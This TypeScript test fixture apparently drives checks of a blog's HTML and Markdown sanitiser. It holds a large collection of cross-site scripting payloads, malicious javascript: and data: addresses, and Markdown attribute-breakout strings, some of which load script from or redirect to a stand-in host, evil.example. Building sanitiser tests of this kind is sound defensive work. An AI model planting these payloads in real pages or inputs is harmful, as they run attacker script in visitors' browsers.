/** Where a payload bites when nothing escapes it: what its control page looks like. */
type Context = 'html' | 'attribute' | 'title' | 'script' | 'text';

export interface Payload {
  name: string;
  context: Context;
  /** What is typed; `{js}` is the call that tells that it fired. */
  text: string;
  /** It swallows what follows it, so it gets a page of its own. */
  alone?: boolean;
}

/** A host that is nobody's; the tests answer for it with a script that fires. */
export const evil = 'https://evil.example';

const html = (name: string, text: string, more: Partial<Payload> = {}): Payload => ({
  name,
  context: 'html',
  text,
  ...more,
});
const breakout = (name: string, context: Context, text: string): Payload => ({ name, context, text });

/** One of each way in which text has become script elsewhere. */
export const payloads: Payload[] = [
  html('script', '<script>{js}</script>'),
  html('script of another host', `<script src="${evil}/x.js?{js}"></script>`),
  html('script in mixed case', '<ScRiPt type=module>{js}</sCrIpT >'),
  html('script in svg', '<svg><script>{js}</script></svg>'),
  html('script in svg by href', '<svg><script href="data:text/javascript,{js}"></script></svg>'),
  html('img onerror', '<img src=x: onerror={js}>'),
  html('img onerror in odd case', '<IMG SRC=x: oNeRrOr="{js}">'),
  html('img by slashes', '<img/src=x:/onerror={js}>'),
  html('img with a broken quote', '<img """><img src=x: onerror="{js}">'),
  html('img behind a broken alt', '<img alt="`" src=x: onerror={js}//`>'),
  html('Hangul around img', '회고<img src=x: title="가나다" onerror={js}>를 쓰다'),
  html('svg onload', '<svg onload={js}></svg>'),
  html('svg animate onbegin', '<svg><animate onbegin={js} attributeName=x dur=1s></animate></svg>'),
  html(
    'svg animated href',
    '<svg><a><animate attributeName=href values="javascript:{js}"/><text y=20>x</text></a></svg>',
  ),
  html('svg set href', '<svg><a><set attributeName="xlink:href" to="javascript:{js}"/><text y=20>x</text></a></svg>'),
  html('svg a', '<svg><a xlink:href="javascript:{js}"><text y=20>x</text></a></svg>'),
  html('svg foreignObject', '<svg><foreignObject><img src=x: onerror={js}></foreignObject></svg>'),
  html(
    'svg use of data',
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='{js}'/></svg>#x"/></svg>`,
  ),
  html('math a', '<math><mtext href="javascript:{js}"><mglyph href="javascript:{js}">x</mglyph></mtext></math>'),
  html('video source', '<video><source onerror="{js}"></video>'),
  html('video poster', '<video poster="javascript:{js}" onloadstart={js} src=x:></video>'),
  html('audio onerror', '<audio src=x: onerror={js}></audio>'),
  html('details ontoggle', '<details open ontoggle={js}><summary>x</summary></details>'),
  html('input autofocus', '<input autofocus onfocus={js}>'),
  html('div onmouseover', '<div onmouseover="{js}">x</div>'),
  html('div onclick in a block', '<div>\n<b/onclick={js}>x</b>\n</div>'),
  html('onpointerenter', '<b onpointerenter={js} onpointerdown={js}>x</b>'),
  html('contenteditable', '<p contenteditable onfocus={js} tabindex=1>x</p>'),
  html('popover', '<button popovertarget=p{id}>x</button><i popover id=p{id} onbeforetoggle={js}>y</i>'),
  html('onanimationstart', '<b style="animation: x 1s" onanimationstart={js} onmouseenter={js}>x</b>'),
  html('body onload', '<body onload={js} onpageshow={js}>'),
  html('iframe srcdoc', '<iframe srcdoc="<script>parent.{js}</script>"></iframe>'),
  html('iframe srcdoc in entities', '<iframe srcdoc="&lt;img src=x: onerror=&quot;{js}&quot;&gt;"></iframe>'),
  html('iframe javascript', '<iframe src="javascript:parent.{js}"></iframe>'),
  html('iframe data', '<iframe src="data:text/html,<script>{js}</script>"></iframe>'),
  html('object data', '<object data="data:text/html,<script>{js}</script>"></object>'),
  html('object javascript', '<object data="javascript:{js}"></object>'),
  html('embed', '<embed src="data:text/html,<script>{js}</script>">'),
  html('meta refresh', `<meta http-equiv=refresh content="0;url=${evil}/?{js}">`, { alone: true }),
  html('meta refresh in a block', `<div>\n<meta http-equiv="Refresh" content="0;url=${evil}/?{js}">\n</div>`, {
    alone: true,
  }),
  html('base href', `<base href="${evil}/"><script src="x.js?{js}"></script>`, { alone: true }),
  html('link stylesheet', `<link rel=stylesheet href="${evil}/x.css?{js}" onload={js} onerror={js}>`),
  html('link preload', `<link rel=modulepreload href="${evil}/x.js?{js}">`),
  html('style import', `<style>@import "${evil}/x.css?{js}";</style>`),
  html('style url', `<style>body{background:url(${evil}/x.css?{js})}</style>`),
  html('style attribute', '<b style="width:expression({js});behavior:url(javascript:{js});-moz-binding:url(x)">x</b>'),
  html('form action', '<form action="javascript:{js}"><button>x</button></form>'),
  html(
    'formaction',
    '<form><button formaction="javascript:{js}">x</button><input type=submit formaction=javascript:{js}></form>',
  ),
  html('form elsewhere', `<form id=f{id}></form><button form=f{id} formaction="javascript:{js}">x</button>`),
  html('a javascript', '<a href="javascript:{js}">x</a>'),
  html('a by entities', '<a href="&#106;ava&Tab;scr&NewLine;ipt&colon;{js}">x</a>'),
  html('a by a leading control', '<a href="&#1; javascript:{js}">x</a>'),
  html('area', '<map name=m{id}><area shape=default href="javascript:{js}"></map><img usemap=#m{id} width=9 height=9>'),
  html('a target in a frame', '<iframe name=n{id}></iframe><a target=n{id} href="javascript:parent.{js}">x</a>'),
  html('noscript mutation', '<noscript><p title="</noscript><img src=x: onerror={js}>">x</noscript>'),
  html('style in svg mutation', '<svg></p><style><a id="</style><img src=x: onerror={js}>"></style></svg>', {
    alone: true,
  }),
  html(
    'math mutation',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img src=x: onerror={js}&gt;">',
    { alone: true },
  ),
  html(
    'form mutation',
    '<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror={js}></style></mglyph></form></mtext></math>',
    { alone: true },
  ),
  html('xmp mutation', '<svg><xmp><p title="</xmp><img src=x: onerror={js}>">x</svg>', { alone: true }),
  html('plaintext', '<plaintext><img src=x: onerror={js}>', { alone: true }),
  html('textarea breakout', '<textarea title="</textarea><img src=x: onerror={js}>">x', { alone: true }),
  html('title breakout', '<title><a title="</title><img src=x: onerror={js}>">x', { alone: true }),
  html(
    'template',
    '<template><img src=x: onerror={js}></template><template shadowrootmode=open><img src=x: onerror={js}></template>',
  ),
  html(
    'select mutation',
    '<select><template><style><!--</style><a rel="--></style></template></select><img src=x: onerror={js}>">',
    { alone: true },
  ),
  html('comment closed early', '<!--><img src=x: onerror={js}>-->'),
  html('comment closed oddly', '<!-- --!><img src=x: onerror={js}> -->'),
  html('conditional comment', '<!--[if gte IE 4]><script>{js}</script><![endif]--><img src=x: onerror={js}>'),
  html('CDATA', '<svg><![CDATA[><img src=x: onerror={js}>]]></svg>'),
  html('processing instruction', '<?x ><img src=x: onerror={js}>?>'),
  html('marquee', '<marquee onstart={js} loop=1>x</marquee>'),
  html(
    'clobbered methods',
    '<form name=getElementById><input name=ownerDocument></form><img name=createElement src=x: onerror={js}>',
  ),
  html('a module by the theme', '<button data-load="data:text/javascript,{js};export default()=>0">x</button>'),
  html('a module of another host', `<button DATA-LOAD="${evil}/x.js?{js}">x</button>`),
  breakout('double quote', 'attribute', '" autofocus tabindex=1 onfocus={js} onmouseover={js} x="'),
  breakout('double quote and tag', 'attribute', '"><img src=x: onerror={js}>'),
  breakout('single quote and tag', 'attribute', `'"><svg/onload={js}>`),
  breakout(
    'quote in entities',
    'attribute',
    '"&gt; onmouseover={js} &#34; onfocus={js} tabindex=1 autofocus x="&quot;',
  ),
  breakout('Hangul and quote', 'attribute', '면접"onmouseover="{js}"후기'),
  breakout('title', 'title', '</title><script>{js}</script>'),
  breakout('title in svg', 'title', '</title></text></svg><img src=x: onerror={js}>'),
  breakout('textarea and all', 'title', '</textarea></style></title></script><img src=x: onerror={js}>'),
  breakout('script string', 'script', '</script><script>{js}</script>'),
  breakout('script string by a quote', 'script', '";{js};//'),
  breakout('script string by a line separator', 'script', '"\u2028{js}\u2028//'),
  breakout('template literal', 'script', '`;{js};`\x24{{js}}'),
  breakout('CDATA end', 'html', ']]><img src=x: onerror={js}>]]>'),
  breakout('expression', 'text', '{{js}} \x24{{js}} {{{js}}} {constructor.constructor("{js}")()}'),
  breakout(
    'image marker',
    'text',
    '__ASTRO_IMAGE_="{&quot;src&quot;:&quot;x:&quot;,&quot;onerror&quot;:&quot;{js}&quot;}"',
  ),
  breakout('full-width signs', 'text', '＜script＞{js}＜/script＞ ‹img src=x onerror={js}›'),
  breakout('the other way', 'html', '\u202E<img src=x: onerror={js}>\u202C'),
  breakout(
    'zero width',
    'html',
    '<\u200Bscript>{js}</script><img\u00A0src=x: onerror={js}><img src=x: onerror\u3164={js}>',
  ),
];

/** Addresses that are script, in the ways in which they have been dressed. */
export const addresses: string[] = [
  'javascript:{js}',
  'JaVaScRiPt:{js}',
  'javascript://x%0a{js}',
  'java\tscript:{js}',
  'java\nscript:{js}',
  '&#1;javascript:{js}',
  ' javascript:{js}',
  'javascript&colon;{js}',
  '&#x6A;avascript:{js}',
  'java%73cript:{js}',
  'vbscript:{js}',
  'data:text/html,<script>{js}</script>',
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3MoMCk8L3NjcmlwdD4=',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="{js}"/>',
  'view-source:javascript:{js}',
  'blob:{js}',
  'https://a.example/"onmouseover="{js}"x="',
  'https://a.example/"><svg/onload={js}>',
  "https://a.example/'><img/src=x:/onerror={js}>",
  'https://"><svg/onload={js}>',
  'https://javascript:{js}@a.example/',
  '/"><svg/onload={js}>',
  '/"onfocus="{js}"autofocus="',
  '/\\javascript:{js}',
  'mailto:x"onclick="{js}',
];

/** How Markdown takes an address. */
export const links: ((address: string) => string)[] = [
  (address) => `[글](${address})`,
  (address) => `[글](<${address}>)`,
  (address) => `<${address}>`,
  (address) => `![그림](<${address}> "x")`,
  (address) => `[글][r{id}]\n\n[r{id}]: <${address}>`,
];

/** Ways of Markdown itself into attributes. */
export const constructs: string[] = [
  '![" onerror={js} x="](x: "\\" onload={js} x=\\"")',
  `![" onload={js} x="](./box.png '"><img src=x: onerror={js}>')`,
  '[글](https://a.example/ "\\" onmouseover={js} x=\\"")',
  "[글](https://a.example/ '\"><svg onload={js}>')",
  '## 제목 <img src=x: onerror={js}> {#id{id} onclick={js} onmouseover="{js}"}',
  '## 제목 "><svg onload={js}> {.a onclick={js} style="x"}',
  '## 제목 {#"><svg/onload={js}>}',
  '```" onmouseover={js} x="\n</code></pre><img src=x: onerror={js}>\n```',
  '```ts title="\\"><img src=x: onerror={js}>" {1} onclick={js}\n"</script><script>{js}</script>"\n```',
  '```html\n<script>{js}</script>\n```',
  '~~~ <svg/onload={js}>\n<svg/onload={js}>\n~~~',
  '`<img src=x: onerror={js}>`',
  '| <img src=x: onerror={js}> | b |\n|---|---|\n| <svg onload={js}></svg> | "><b onclick={js}>x</b> |',
  '- [ ] <b onclick={js}>x</b> " onfocus={js} autofocus x="',
  '> <img src=x: onerror={js}>\n> <script>{js}</script>',
  '글[^x{id}]\n\n[^x{id}]: <img src=x: onerror={js}> <script>{js}</script>',
  '<div\nonclick={js}\n>\n\n**x**\n\n</div>',
  '<b x"onclick={js} y>x</b>',
  '<a href="https://a.example/"onclick={js}>x</a>',
  '<details open\nontoggle="{js}">\n<summary>x</summary>\n\n글 <script>{js}</script>\n\n</details>',
];
